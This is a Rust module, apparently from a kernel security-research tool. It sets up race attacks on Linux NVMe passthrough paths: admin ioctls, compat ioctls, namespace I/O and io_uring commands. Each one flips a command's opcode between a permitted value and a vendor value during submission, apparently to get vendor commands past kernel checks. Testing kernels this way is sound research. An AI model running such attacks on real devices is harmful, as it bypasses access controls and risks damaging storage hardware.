//! NVMe: an admin command that becomes a vendor's, by each entry, and an I/O command.

use std::{os::fd::AsRawFd as _, ptr};

use io_uring::{IoUring, cqueue, opcode, squeue, types};
use rustix::{
    io::Errno,
    mm::{MapFlags, ProtFlags, mmap},
};

use super::{
    Attack, Byte, Made, NVME_ADMIN, VENDOR, call, compat as by_compat,
    memory::{PAGE, pages},
    open, uring,
};
use crate::client::nvme::{NVME_IO, low, passthru};

const IDENTIFY: u8 = 0x06;
const FLUSH: u8 = 0x00;

pub(super) fn admin(node: &str) -> Made {
    let file = open(node)?;
    let at = pages(2)?;
    Ok(Attack {
        argument: passthru("identify", at + PAGE)?.1.to_vec(),
        at,
        byte: Byte::Within(0),
        values: [IDENTIFY, VENDOR],
        send: Box::new(move |at| call(&file, NVME_ADMIN, at)),
    })
}

/// As a 32-bit process sends it.
pub(super) fn compat(node: &str) -> Made {
    let file = open(node)?;
    let at = low()?;
    Ok(Attack {
        argument: passthru("identify", at + PAGE)?.1.to_vec(),
        at,
        byte: Byte::Within(0),
        values: [IDENTIFY, VENDOR],
        send: Box::new(move |at| by_compat::ioctl(&file, NVME_ADMIN, at)),
    })
}

/// A command to a namespace.
pub(super) fn io(node: &str) -> Made {
    let file = open(node)?;
    let mut argument = vec![0; 72];
    argument[4] = 1;
    Ok(Attack {
        argument,
        at: pages(1)?,
        byte: Byte::Within(0),
        values: [FLUSH, VENDOR],
        send: Box::new(move |at| call(&file, NVME_IO, at)),
    })
}

/// The command lies in a ring's memory, which is mapped a second time.
pub(super) fn ring(node: &str) -> Made {
    /// `IORING_OFF_SQES` of `linux/io_uring.h`.
    const ENTRIES: u64 = 0x1000_0000;
    /// Where an entry has its payload, and that its opcode.
    const OPCODE: usize = 48;
    let file = open(node)?;
    let mut ring: IoUring<squeue::Entry128, cqueue::Entry32> = IoUring::builder().build(1)?;
    // SAFETY: a new mapping, at a place of the kernel's choice.
    let entries = unsafe {
        mmap(
            ptr::null_mut(),
            PAGE,
            ProtFlags::READ | ProtFlags::WRITE,
            MapFlags::SHARED | MapFlags::POPULATE,
            rustix::fd::BorrowedFd::borrow_raw(ring.as_raw_fd()),
            ENTRIES,
        )
    }?;
    let (number, payload) = uring::command("identify")?;
    let send = move |_| {
        let command = opcode::UringCmd80::new(types::Fd(file.as_raw_fd()), number);
        // SAFETY: the data's memory and the file stay until the command has ended.
        let pushed = unsafe { ring.submission().push(&command.cmd(payload).build()) };
        pushed.map_err(|_| Errno::BUSY)?;
        ring.submit_and_wait(1)
            .map_err(|e| Errno::from_io_error(&e).unwrap_or(Errno::IO))?;
        let done = ring.completion().next().ok_or(Errno::AGAIN)?;
        match done.result() {
            error if error < 0 => Err(Errno::from_raw_os_error(-error)),
            status => Ok(status),
        }
    };
    Ok(Attack {
        argument: Vec::new(),
        at: pages(1)?,
        byte: Byte::Pinned(entries.expose_provenance() + OPCODE),
        values: [IDENTIFY, VENDOR],
        send: Box::new(send),
    })
}
